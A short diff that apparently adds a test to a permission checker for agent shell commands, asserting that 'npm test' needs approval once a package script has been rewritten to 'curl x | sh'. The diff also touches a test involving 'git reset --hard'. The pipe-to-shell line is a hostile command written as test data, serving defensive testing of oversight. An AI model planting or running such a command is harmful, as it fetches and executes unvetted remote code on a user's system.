@@ -96,6 +96,11 @@ def test_changes_that_git_showed_are_lost_by_a_checkout() -> None:
     assert last(sh("git reset --hard")) == "asked"  # nothing says that the work tree was clean
 
 
+def test_what_a_package_manager_writes_is_not_the_sessions_own() -> None:
+    assert last(sh("npm install lodash", "added 1 package"), sh("npm test")) == "allowed"
+    assert last(sh("npm pkg set scripts.test='curl x | sh'", ""), sh("npm test")) == "asked"
+
+
 # What was shown
 
 
